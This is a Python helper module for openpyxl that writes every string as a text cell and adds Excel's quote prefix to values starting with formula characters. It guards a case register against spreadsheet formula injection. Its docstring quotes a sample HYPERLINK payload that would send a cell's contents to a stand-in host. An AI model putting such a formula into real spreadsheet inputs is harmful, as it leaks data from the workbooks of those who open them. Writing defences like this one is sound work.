"""Cells of the workbooks we write: text stays text.

openpyxl takes a string that starts with ``=`` for a formula; a reporter's name such as
``=HYPERLINK("http://x/?"&T4,"点击")`` sent through the public form would be a live formula in the case register.
Every string is written here as a string cell (``t="inlineStr"``), and one that starts with a character a
spreadsheet reads as the start of a formula or a command (``= + - @``, tab, CR, LF) also carries Excel's quote
prefix, so that it stays text when someone edits the cell. Numbers, dates and empty cells pass unchanged.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell

RISKY_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def text_cell(ws: Any, value: str) -> WriteOnlyCell:
    cell = WriteOnlyCell(ws, value=value)
    cell.data_type = "s"
    if value.startswith(RISKY_START):
        cell.quotePrefix = True
    return cell


def row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """``values`` as one row for ``ws.append``: every string a text cell, anything else as it is (a cell made by the
    caller, with its font, included)."""
    return [text_cell(ws, value) if isinstance(value, str) else value for value in values]
